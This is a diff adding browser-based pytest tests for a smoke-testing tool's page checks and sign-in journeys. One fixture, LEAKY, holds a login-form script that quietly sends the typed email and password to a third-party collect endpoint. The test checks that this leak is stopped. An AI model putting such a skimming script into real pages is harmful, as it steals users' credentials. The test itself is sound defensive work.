@@ -1,0 +1,133 @@
+"""The vantage `browser` on pages of every kind, in one real Chromium."""
+
+from __future__ import annotations
+
+from urllib.parse import parse_qs
+
+import pytest
+from tests_support.web import Reply, reply, serve
+
+from smokegate.environment.model import Environment
+from smokegate.observation.browser.engine import ENGINE
+from smokegate.observation.browser.look import Look
+from smokegate.observation.browser.sign_in import Person
+from smokegate.observation.evidence.redact import Redactor
+
+PERSON = Person("smoke@example.com", "Sg-secret-7Q!", "Smoke 1")
+API = {"url": "http://127.0.0.1:9", "health": {}}
+SIGN_IN = {"login": "/session", "account": "/me", "standing": None}
+#: The address and password of the page's form go to the application, and behind its back to a third party.
+LEAKY = """<h1>Log in</h1><form><label>E-mail <input id=a></label><input type=password id=b><button>Go</button></form>
+<script>document.forms[0].onsubmit = async (event) => {
+  event.preventDefault();
+  const body = JSON.stringify({ email: a.value, password: b.value });
+  await fetch("/session", { method: "POST", body });
+  await fetch("THIRD/collect", { method: "POST", body, mode: "no-cors" }).catch(() => {});
+  document.body.innerHTML = "<p>Signed in as smoke@example.com</p>";
+};</script>"""
+
+
+@pytest.fixture(scope="module")
+def web():
+    """A server whose pages a test writes."""
+    with serve() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def third():
+    """A third party."""
+    with serve() as server:
+        yield server
+
+
+@pytest.fixture(scope="module", autouse=True)
+def engine(chromium):  # noqa: ARG001 - says what is missing where there is no browser
+    """One browser for all of these tests."""
+    ENGINE.use()
+    yield
+    ENGINE.leave()
+
+
+def page(body: str, **headers: str) -> Reply:
+    """Return an HTML page."""
+    named = tuple((name.replace("_", "-"), text) for name, text in headers.items())
+    return Reply(200, f"<!doctype html><meta charset=utf-8><title>x</title>{body}".encode(), (("Content-Type", "text/html"), *named))
+
+
+def look(web, *pages, person=None, **sign_in):
+    """Look at some pages, or sign in."""
+    section = {"url": web.url, "timeout": 4.0, "pages": [*pages] or [{"path": "/empty"}]}
+    if sign_in:
+        section["sign_in"] = sign_in
+    table = {"name": "app", "title": "App", "backend": API, "browser": section}
+    environment = Environment.model_validate({**table, "sign_in": SIGN_IN} if sign_in else table)
+    view = Look(environment, Redactor(), person, lambda *_: None, 90.0).take()
+    assert (view.absent, view.failure) == (None, "")
+    return view
+
+
+def test_what_is_to_be_seen_is_seen_and_a_spinner_is_nothing(web):
+    """Shadow trees, canvases and late answers count; a spinner and an empty root do not."""
+    shadow = "<div id=h></div><script>h.attachShadow({mode: 'open'}).innerHTML = '<b>Ready</b>'</script>"
+    late = (
+        "<p id=p>…</p><script>fetch('/data').then((r) => r.json()).then((d) => { p.textContent = d.badge; })</script>"
+    )
+    web.answers |= {
+        "/shadow": page(shadow),
+        "/canvas": page("<canvas width=300 height=200></canvas>"),
+        "/late": page(late),
+        "/data": reply({"badge": "HEALTHY"}),
+        "/spinner": page("<div class=spinner><svg width=50 height=50></svg>Loading…</div>"),
+        "/unhealthy": page("<p>UNHEALTHY</p>"),
+    }
+    said = {"/shadow": ["Ready"], "/late": ["HEALTHY"], "/unhealthy": ["HEALTHY"]}
+    paths = ("/shadow", "/canvas", "/late", "/spinner", "/unhealthy")
+    seen = {each.path: each for each in look(web, *({"path": p, "shows": said.get(p, [])} for p in paths)).pages}
+
+    assert {path: each.drawn for path, each in seen.items()} == {p: p != "/spinner" for p in paths}
+    assert {path for path, each in seen.items() if each.missing} == {"/unhealthy"}
+
+
+def test_nothing_of_the_account_goes_to_a_third_party(web, third):
+    """A script that sends the form elsewhere, too, is stopped; the application's own call goes through."""
+    third.answers["/collect"] = reply({})
+    third.asked.clear()
+    web.answers |= {
+        "/empty": page("<p>x</p>"),
+        "/leaky": page(LEAKY.replace("THIRD", third.url)),
+        "/session": reply({"ok": True}),
+    }
+    journey = look(web, person=PERSON, login="/leaky", reload=False).journey
+
+    assert third.asked == []
+    assert [(each.name, each.account_shown) for each in journey.steps] == [("log in", True), ("log in again", True)]
+
+
+def test_server_rendered_form_with_a_cookie_signs_in_and_stays(web):
+    """A form that is posted, a redirect and a session cookie: no script is needed."""
+
+    def posted(request):
+        fields = parse_qs(request.body.decode())
+        good = fields.get("login") == [PERSON.email] and fields.get("pw") == [PERSON.password]
+        headers = (("Location", "/home" if good else "/enter"), ("Set-Cookie", "sid=abc; Path=/; HttpOnly"))
+        return Reply(303, b"", headers)
+
+    def home(request):
+        signed_in = "sid=abc" in (request.headers.get("Cookie") or "")
+        return page(f"<p>Hello {PERSON.email}</p><a href=/leave>Sign out</a>" if signed_in else "<p>Who are you?</p>")
+
+    fields = "<input name=login placeholder='User name'><input name=pw type=password>"
+    form = f"<form method=post action=/post>{fields}<button>Go</button></form>"
+    web.answers |= {
+        "/empty": page("<p>x</p>"),
+        "/enter": page(form),
+        "/post": posted,
+        "/home": home,
+        "/leave": page("<p>Bye</p>", Set_Cookie="sid=; Max-Age=0; Path=/"),
+    }
+    view = look(web, person=PERSON, login="/enter")
+
+    assert [each.name for each in view.journey.steps] == ["log in", "log in again", "reload"]
+    assert all(each.account_shown for each in view.journey.steps)
+    assert all(each.jpeg.startswith(b"\xff\xd8") for each in view.pictures)
